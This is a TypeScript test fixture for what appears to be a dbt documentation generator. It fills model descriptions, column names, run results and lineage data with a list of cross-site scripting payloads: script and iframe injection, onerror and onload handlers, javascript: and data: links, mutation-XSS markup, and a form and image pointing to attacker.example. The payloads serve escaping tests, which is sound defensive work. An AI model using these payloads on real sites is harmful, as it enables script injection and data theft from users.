import type { ColumnLineage } from '../../src/artifact/column-lineage.ts';
import type { PlainMap } from '../../src/manifest/node.ts';

/** What runs it would set `window.broken`. */
const attacks = [
  '<script>window.broken = "script"</script>',
  '</script><script>window.broken = "closed"</script>',
  '<img src=x onerror="window.broken = \'image\'">',
  '<svg onload="window.broken = \'svg\'"><a xlink:href="javascript:window.broken=1">x</a></svg>',
  '<iframe srcdoc="<script>parent.broken = 1</script>"></iframe>',
  '<a href="javascript:window.broken=\'html link\'">html link</a>',
  '[markdown link](javascript:window.broken="markdown")',
  '[data link](data:text/html,<script>window.broken=1</script>)',
  '<form action="https://attacker.example"><input name="x"><button>send</button></form>',
  '<style>body { display: none }</style>',
  '<div id="page" style="position:fixed;inset:0" onclick="window.broken=1">cover</div>',
  '![pixel](https://attacker.example/pixel.png)',
  '<!--><img src=x onerror=window.broken=1>-->',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.broken=1&gt;">',
];

export const attack = `${attacks.join('\n\n')}\n\nline\u2028separator '\\' "quotes" {{ braces }} \`\${code}\``;

const short = '</script><script>window.broken=1</script><img src=x onerror=window.broken=1>\u2028\'"';

const node = (id: string, more: PlainMap): PlainMap => {
  const [kind = '', packageName = '', ...rest] = id.split('.');
  return {
    unique_id: id,
    resource_type: kind,
    package_name: packageName,
    name: rest[0] ?? '',
    alias: rest[0] ?? '',
    path: `${rest[0]}.sql`,
    original_file_path: `models/${rest[0]}.sql`,
    fqn: [packageName, ...rest],
    database: 'db',
    schema: 'main',
    config: { materialized: 'view' },
    tags: [],
    meta: {},
    columns: {},
    description: '',
    depends_on: { nodes: [], macros: [] },
    ...more,
  };
};

const column = (name: string, description: string): PlainMap => ({ name, description, data_type: null, tags: [], meta: {} });

const nodes: readonly PlainMap[] = [
  node('seed.tea.raw_orders', { depends_on: { macros: [] } }),
  node('model.tea.stg_orders', {
    path: 'staging/stg_orders.sql',
    description: 'Orders as they come.\n\nSecond paragraph with the word walnut.',
    depends_on: { nodes: ['seed.tea.raw_orders', 'source.tea.raw.payments'], macros: ['macro.tea.cents', 'macro.dbt.ref'] },
    raw_code: "select {{ cents('amount') }} from {{ ref('raw_orders') }}",
    compiled_code: 'select amount / 100 from db.main.raw_orders',
    relation_name: '"db"."main"."stg_orders"',
    columns: { order_id: column('order_id', 'The key.'), gone: column('gone', 'Was dropped.') },
    tags: ['daily'],
    group: 'sales',
    meta: { ['__proto__x']: 1, sla: { hours: 4 } },
  }),
  node('model.tea.orders', {
    path: 'marts/orders.sql',
    description: attack,
    config: { materialized: 'table', tags: [short] },
    depends_on: { nodes: ['model.tea.stg_orders'], macros: [] },
    raw_code: `select '${attack}' -- ${short}`,
    compiled_code: attack,
    relation_name: short,
    columns: { [short]: column(short, attack), amount: column('amount', '| a | b |\n| - | - |\n| 1 | 2 |') },
    meta: JSON.parse(`{"__proto__": "kept", "owner": ${JSON.stringify(short)}, "html": ${JSON.stringify(attack)}}`) as PlainMap,
  }),
  node(`model.tea.${short}`, {
    name: short,
    alias: short,
    path: `${short}/x.sql`,
    depends_on: { nodes: ['model.tea.orders'], macros: [] },
  }),
  node('model.tea.secret', { docs: { show: false }, depends_on: { nodes: ['model.tea.orders'], macros: [] } }),
  node('test.tea.not_null_stg_orders_order_id.1', {
    attached_node: 'model.tea.stg_orders',
    column_name: 'order_id',
    test_metadata: { name: 'not_null', kwargs: { column_name: 'order_id', model: 'x' }, namespace: null },
    depends_on: { nodes: ['model.tea.stg_orders'], macros: ['macro.dbt.test_not_null'] },
  }),
  node('test.tea.accepted.2', {
    attached_node: null,
    column_name: 'kind',
    test_metadata: { name: 'accepted_values', kwargs: { column_name: 'kind', values: ['a', 'b'] }, namespace: null },
    depends_on: { nodes: ['source.tea.raw.payments'], macros: [] },
  }),
];

const source = node('source.tea.raw.payments', {
  source_name: 'raw',
  name: 'payments',
  identifier: 'payments_v2',
  alias: undefined,
});
const exposure = node('exposure.tea.board', {
  label: 'Board',
  type: 'dashboard',
  url: 'javascript:window.broken=1',
  owner: { name: short, email: 'a@example.com' },
  depends_on: { nodes: ['model.tea.orders'] },
});
const macro = node('macro.tea.cents', {
  path: 'macros/cents.sql',
  macro_sql: '{% macro cents(column) %}{{ column }} / 100{% endmacro %}',
  arguments: [{ name: 'column', type: 'string', description: attack }],
});
const builtIn = node('macro.dbt.test_not_null', { macro_sql: '' });

const byId = (...records: readonly PlainMap[]): PlainMap =>
  Object.fromEntries(records.map(one => [String(one['unique_id']), one]));

export const manifest: PlainMap = {
  metadata: { project_name: 'tea', adapter_type: 'duckdb', generated_at: '2026-01-02T03:04:05Z', dbt_version: '1.0' },
  nodes: byId(...nodes),
  sources: byId(source),
  exposures: byId(exposure),
  macros: byId(macro, builtIn),
  groups: { 'group.tea.sales': { name: 'sales', owner: { name: 'Sales team', email: 'sales@example.com' } } },
  docs: { 'doc.tea.__overview__': { block_contents: `# Tea\n\n${attack}` } },
};

export const catalog: PlainMap = {
  nodes: {
    'model.tea.stg_orders': {
      metadata: { type: 'VIEW', owner: 'root', comment: null },
      columns: {
        AMOUNT: { name: 'AMOUNT', type: 'DECIMAL(16,2)', index: 2 },
        ORDER_ID: { name: 'ORDER_ID', type: 'INTEGER', index: 1 },
      },
      stats: { num_rows: { id: 'num_rows', label: 'Rows', value: 12n, include: true } },
    },
  },
  sources: {},
};

export const runResults: PlainMap = {
  args: { which: 'build' },
  results: [
    { unique_id: 'model.tea.stg_orders', status: 'success', execution_time: 0.5, timing: [] },
    { unique_id: 'model.tea.orders', status: 'error', message: attack, execution_time: 1, timing: [] },
    { unique_id: 'test.tea.not_null_stg_orders_order_id.1', status: 'fail', message: 'Got 3 results', failures: 3 },
  ],
};

/** `stg_orders` reads the seed by the name of its table, as when a source has the same one. */
export const lineage: ColumnLineage = {
  nodes: {
    'seed.tea.raw_orders': { columns: [{ name: 'id', type: 'INTEGER', from: [] }], complete: true, filters: [], gaps: [] },
    'model.tea.stg_orders': {
      columns: [
        { name: 'order_id', type: 'INTEGER', from: [{ node: 'db.main.raw_orders', column: 'id', how: 'renamed' }] },
        { name: 'amount', type: 'DECIMAL(16,2)', from: null },
      ],
      complete: true,
      filters: [],
      gaps: [`\`amount\` comes from ${short}.`],
    },
    'model.tea.orders': {
      columns: [
        { name: short, type: null, from: [{ node: 'model.tea.stg_orders', column: 'ORDER_ID', how: 'copied' }] },
        { name: 'amount', type: null, from: [{ node: 'model.tea.stg_orders', column: 'amount', how: 'transformed' }] },
      ],
      complete: true,
      filters: [],
      gaps: [],
    },
    [`model.tea.${short}`]: {
      columns: [{ name: 'key', type: 'INTEGER', from: [{ node: 'model.tea.orders', column: short, how: 'renamed' }] }],
      complete: true,
      filters: [],
      gaps: [],
    },
    'model.tea.secret': {
      columns: [{ name: 'first', type: 'INTEGER', from: [{ node: 'model.tea.stg_orders', column: 'order_id', how: 'copied' }] }],
      complete: true,
      filters: [],
      gaps: [],
    },
  },
};

/** What no artifact of the project itself tells. */
export const beside = {
  history: [
    { invocation: short, command: 'build', at: short, results: { 'model.tea.orders': [short, 1, 2] as const } },
    {
      invocation: '2',
      command: 'build',
      at: '2026-01-01T00:00:00Z',
      results: { 'model.tea.orders': ['success', 1, 2] as const },
    },
  ],
  freshness: {
    results: [
      { unique_id: 'source.tea.raw.payments', status: short, max_loaded_at: short, snapshotted_at: short, error: attack },
    ],
  },
  problems: new Map([['model.tea.orders', attack]]),
  mistakes: [attack],
  changes: new Map([['model.tea.orders', 'modified' as const]]),
};
